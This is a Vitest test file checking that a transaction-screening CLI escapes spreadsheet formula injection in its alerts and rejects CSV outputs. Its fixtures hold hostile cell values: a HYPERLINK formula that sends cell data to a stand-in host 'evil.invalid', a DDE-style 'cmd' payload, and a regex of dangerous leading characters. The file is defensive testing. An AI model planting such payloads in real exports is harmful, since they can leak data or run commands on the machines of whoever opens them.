/**
 * CSV outputs neutralise spreadsheet formula injection: the alerts CSV (`screen --format csv`) and the rejects
 * CSV never hold a cell that starts with `=`, `+`, `-`, `@`, tab or CR (other than a plain number such as
 * `-12.50`), whatever the account ids, transaction ids, merchant names or raw values were.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCsvRecordSplitter } from '../../src/ingest/csv-records.js';
import { csvEscapeCell } from '../../src/report/csv-output.js';
import { generateRows, toCsv, type GenRow } from './gen-transactions.js';

const ROOT = resolve(import.meta.dirname, '../..');
const CLI = ['--import', pathToFileURL(join(ROOT, 'node_modules/tsx/dist/loader.mjs')).href, join(ROOT, 'src/cli/main.ts')];
let dir: string;

const EVIL_ACCOUNTS: Record<string, string> = { 'ACC-S000': '=HYPERLINK("http://evil.invalid/?"&A1,"x")', 'ACC-S001': '@SUM(1+1)*cmd|\' /C calc\'!A0', 'ACC-S002': '+1+cmd' };
const DANGEROUS = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;
const PLAIN_NUMBER = /^[-+]?\d+(\.\d+)?$/;

function cells(text: string): string[][] {
  const sp = createCsvRecordSplitter();
  return [...sp.push(text), ...sp.end()].map((r) => r.fields);
}

function unsafeCells(text: string): string[] {
  return cells(text).flat().filter((c) => DANGEROUS.test(c) && !PLAIN_NUMBER.test(c));
}

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'msht-csvinj-'));
  const rows = generateRows({ background: 10, suspicious: 3, days: 40, seed: 3 }).map((r): GenRow => {
    const evil = r.account_id === undefined ? undefined : EVIL_ACCOUNTS[r.account_id];
    if (evil === undefined) return r;
    return { ...r, account_id: evil, id: `-${r.id}`, customer_id: '=cust()', merchant_name: r.merchant_name === undefined ? undefined : `=evil() ${r.merchant_name}` } as GenRow;
  });
  const csv = toCsv(rows).trimEnd().split('\n');
  csv.push('=BAD1,2026-03-01T10:00:00Z,@acc,,out,=1+1,GBP,card', '+BAD2,2026-03-01T10:00:00Z,-acc,,out,"=HYPERLINK(""x"")",GBP,card,,,,,,,,,,,,');
  writeFileSync(join(dir, 'in.csv'), `${csv.join('\n')}\n`);
  for (const args of [['--format', 'csv', '--out', 'alerts.csv', '--rejects', 'rejects.csv']]) {
    const r = spawnSync(process.execPath, [...CLI, 'screen', 'in.csv', ...args], { cwd: dir, encoding: 'utf8', timeout: 120_000 });
    expect(r.status, r.stderr).toBe(0);
  }
}, 120_000);

afterAll(() => {
  if (dir !== undefined) rmSync(dir, { recursive: true, force: true });
});

describe('formula injection', () => {
  it('csvEscapeCell prefixes a quote to every dangerous start, keeps plain numbers', () => {
    for (const v of ['=1+1', '+cmd', '-1+2', '@SUM(A1)', '\t=1', '\r=1', '＝1', '-', '+', '=']) expect(csvEscapeCell(v).replace(/^"/, '')).toMatch(/^'/);
    for (const v of ['-12.50', '+44', '0', '12']) expect(csvEscapeCell(v)).toBe(v);
  });

  it('the alerts CSV for alerts on hostile account ids, transaction ids and merchant names has no formula cell', () => {
    const text = readFileSync(join(dir, 'alerts.csv'), 'utf8');
    const rows = cells(text);
    expect(rows.length).toBeGreaterThan(3);
    expect(text).toContain("'=HYPERLINK(");
    expect(text).toContain("'@SUM(1+1)");
    expect(text).toContain("'+1+cmd");
    expect(unsafeCells(text)).toEqual([]);
  });

  it('the rejects CSV with hostile raw values has no formula cell', () => {
    const text = readFileSync(join(dir, 'rejects.csv'), 'utf8');
    expect(cells(text).length).toBeGreaterThanOrEqual(3);
    expect(text).toMatch(/'=1\+1|'=BAD1/);
    expect(unsafeCells(text)).toEqual([]);
  });
});
